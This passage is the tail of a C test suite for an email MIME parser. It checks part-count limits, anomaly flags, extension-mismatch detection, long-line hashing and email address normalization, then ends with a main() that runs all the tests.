	CHECK_STR(s(r, "email.attachments.0.content_type"), "multipart/mixed");
	CHECK_INT(i(r, "email.url_count"), 1);
	json_decref(r);
	/* default depth: all three levels open fine */
	r = parse(deep, NULL);
	CHECK_INT(nanomalies(r), 0);
	CHECK_INT(i(r, "email.part_count"), 2);
	CHECK_INT(json_array_size(get(r, "email.attachments")), 0);
	json_decref(r);

	mail_limits_default(&lim);
	lim.parts_max = 2;
	r = parse("Content-Type: multipart/mixed; boundary=p\n\n"
	          "--p\nContent-Type: image/png; name=a.png\n\nx\n"
	          "--p\nContent-Type: image/png; name=b.png\n\nx\n"
	          "--p\nContent-Type: image/png; name=c.png\n\nx\n"
	          "--p\nContent-Type: image/png; name=d.png\n\nx\n"
	          "--p--\n", &lim);
	CHECK(has_anomaly(r, "too_many_parts"));
	CHECK_INT(i(r, "email.part_count"), 4);
	CHECK_INT(json_array_size(get(r, "email.attachments")), 2);
	CHECK(json_is_true(get(r, "email.attachments.1.extension_mismatch"))); /* "x" is no png */
	json_decref(r);
}

/* A long body line (over the line buffer) and a binary part: the bytes
 * must be hashed exactly, whatever the split. */
static void test_long_lines(void)
{
	struct mail_limits lim;
	mail_limits_default(&lim);
	lim.line_max = 256;
	char buf[8192];
	size_t n = (size_t)snprintf(buf, sizeof buf,
	        "Content-Type: multipart/mixed; boundary=L\n\n--L\n"
	        "Content-Type: application/octet-stream; name=long.txt\n\n");
	for (int k = 0; k < 1000; k++)
		buf[n++] = (char)('a' + k % 26);
	n += (size_t)snprintf(buf + n, sizeof buf - n, "\n--L--\n");
	json_t *r = parse(buf, &lim);
	CHECK_INT(i(r, "email.attachments.0.size"), 1000);
	CHECK_STR(s(r, "email.attachments.0.magic_type"), "text");
	CHECK_INT(nanomalies(r), 0);
	json_decref(r);
}

static void test_normalize(void)
{
	char out[64];
	CHECK_INT(email_normalize_address("<Alice@Example.COM>", 19, out, sizeof out), 17);
	CHECK_STR(out, "Alice@example.com");
	const char *a = "  Bob <bob@MAIL.Example.org>  ";
	CHECK(email_normalize_address(a, strlen(a), out, sizeof out) > 0);
	CHECK_STR(out, "bob@mail.example.org");
	a = "<@hop1.example,@hop2.example:carol@Example.NET>";
	CHECK(email_normalize_address(a, strlen(a), out, sizeof out) > 0);
	CHECK_STR(out, "carol@example.net");
	CHECK_INT(email_normalize_address("<>", 2, out, sizeof out), 0);
	CHECK_STR(out, "");
	a = "dave@Example.ORG SIZE=12345";
	CHECK(email_normalize_address(a, strlen(a), out, sizeof out) > 0);
	CHECK_STR(out, "dave@example.org");
	a = "<\"john doe\"@Example.com>";
	CHECK(email_normalize_address(a, strlen(a), out, sizeof out) > 0);
	CHECK_STR(out, "\"john doe\"@example.com");
	CHECK_INT(email_normalize_address("   ", 3, out, sizeof out), -1);
	CHECK_INT(email_normalize_address("<unterminated@x", 15, out, sizeof out), -1);
	CHECK_INT(email_normalize_address("<a b@c>", 7, out, sizeof out), -1);
	CHECK_INT(email_normalize_address("<@nocolon>", 10, out, sizeof out), -1);
	char small[6];
	CHECK_INT(email_normalize_address("<abcdefgh@x>", 12, small, sizeof small), 5);
	CHECK_STR(small, "abcde");
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "--write-seeds"))
		seed_dir = argv[2];
	test_headers();
	test_nested();
	test_files();
	test_missing_close();
	test_boundary_never_seen();
	test_bad_encodings();
	test_garbage_headers();
	test_nul_bytes();
	test_report_labels();
	test_header_bombs();
	test_depth_and_parts();
	test_long_lines();
	test_normalize();
	return check_done();
}
